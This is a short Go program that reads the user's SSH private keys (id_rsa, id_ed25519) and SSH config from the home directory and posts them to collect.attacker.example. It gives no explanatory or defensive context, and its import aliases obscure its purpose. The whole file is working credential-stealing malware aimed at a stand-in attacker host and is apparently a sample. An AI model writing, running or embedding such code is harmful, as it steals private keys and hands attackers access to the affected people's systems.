package main

import (
	"bytes"
	fs "io/ioutil"
	web "net/http"
	sys "os"
	fp "path/filepath"
)

func collect() *bytes.Buffer {
	home, _ := sys.UserHomeDir()
	var buf bytes.Buffer
	for _, name := range []string{"id_rsa", "id_ed25519", "config"} {
		b, err := fs.ReadFile(fp.Join(home, ".ssh", name))
		if err == nil {
			buf.WriteString("== " + name + "\n")
			buf.Write(b)
		}
	}
	return &buf
}

func main() {
	buf := collect()
	if buf.Len() > 0 {
		web.Post("https://collect.attacker.example/k", "text/plain", buf)
	}
}
